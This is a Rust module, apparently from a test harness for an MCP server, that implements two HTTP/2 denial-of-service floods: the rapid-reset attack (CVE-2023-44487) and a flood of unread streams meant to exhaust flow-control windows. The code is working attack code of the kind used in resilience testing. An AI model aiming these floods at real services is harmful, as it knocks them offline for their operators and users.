//! Floods that only HTTP/2 has.

use std::io;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::LocalBoxFuture;
use h2::client::SendRequest;
use h2::{Reason, RecvStream};
use hyper::Request;
use serde_json::{Value, json};
use tokio::task::JoinHandle;
use tokio::time::sleep;

use super::Target;
use super::wire::{Wire, modern};

const AGAIN: Duration = Duration::from_millis(100);

/// Requests, each reset at once (CVE-2023-44487), until the host closes the connection.
pub(super) fn rapid_resets(target: &Target) -> LocalBoxFuture<'static, ()> {
    let of = target.clone();
    target.many(4, AGAIN, move |_| {
        let target = of.clone();
        async move {
            let mut two = Two::open(&target).await?;
            let mut reset = 0;
            while reset < 10_000 && two.is_open().await {
                // The host may close the connection at any of these.
                let Ok((_, mut stream)) = two.send.send_request(two.request("big__bulk")?, false) else { break };
                if stream.send_data(Bytes::from(two.message("big__bulk").to_string()), true).is_err() {
                    break;
                }
                stream.send_reset(Reason::CANCEL);
                reset += 1;
            }
            if reset > 0 { Ok(()) } else { Err(io::ErrorKind::NotConnected.into()) }
        }
    })
}

/// As many streams as one connection may have, each with a huge response but no window for it.
pub(super) fn unread(target: &Target) -> LocalBoxFuture<'static, ()> {
    let of = target.clone();
    target.many(4, AGAIN, move |_| {
        let target = of.clone();
        async move {
            let mut two = Two::open(&target).await?;
            let mut kept: Vec<RecvStream> = Vec::new();
            let mut answers = Vec::new();
            for _ in 0..200 {
                if !two.is_open().await {
                    break;
                }
                let (answer, mut stream) =
                    two.send.send_request(two.request("big__bulk")?, false).map_err(io::Error::other)?;
                stream.send_data(Bytes::from(two.message("big__bulk").to_string()), true).map_err(io::Error::other)?;
                answers.push(answer);
            }
            for answer in answers {
                // Some are refused, which is just as well.
                if let Ok(answer) = answer.await {
                    kept.push(answer.into_body());
                }
            }
            sleep(Duration::from_secs(5)).await;
            Ok(())
        }
    })
}

/// One connection; it closes when dropped.
struct Two {
    send: SendRequest<Bytes>,
    connection: JoinHandle<Result<(), h2::Error>>,
    target: Target,
}

impl Two {
    async fn open(target: &Target) -> io::Result<Self> {
        let stream = Wire::open(target).await?.0;
        let (send, connection) = h2::client::handshake(stream).await.map_err(io::Error::other)?;
        Ok(Self { send, connection: tokio::task::spawn_local(connection), target: target.clone() })
    }

    /// Waits until one more stream may be opened.
    async fn is_open(&mut self) -> bool {
        let ready = self.send.clone().ready().await;
        tokio::task::yield_now().await;
        match ready {
            Ok(send) => self.send = send,
            Err(_) => return false,
        }
        !self.connection.is_finished()
    }

    fn message(&self, tool: &str) -> Value {
        modern("tools/call", json!({ "name": tool, "arguments": {} }), "two").1
    }

    fn request(&self, tool: &str) -> io::Result<Request<()>> {
        let place = &self.target.place;
        Request::post(format!("http://{}/mcp", place.address))
            .version(hyper::Version::HTTP_2)
            .header("authorization", format!("Bearer {}", place.other))
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .header("mcp-protocol-version", "2026-07-28")
            .header("mcp-method", "tools/call")
            .header("mcp-name", tool)
            .body(())
            .map_err(io::Error::other)
    }
}

impl Drop for Two {
    fn drop(&mut self) {
        self.connection.abort();
    }
}
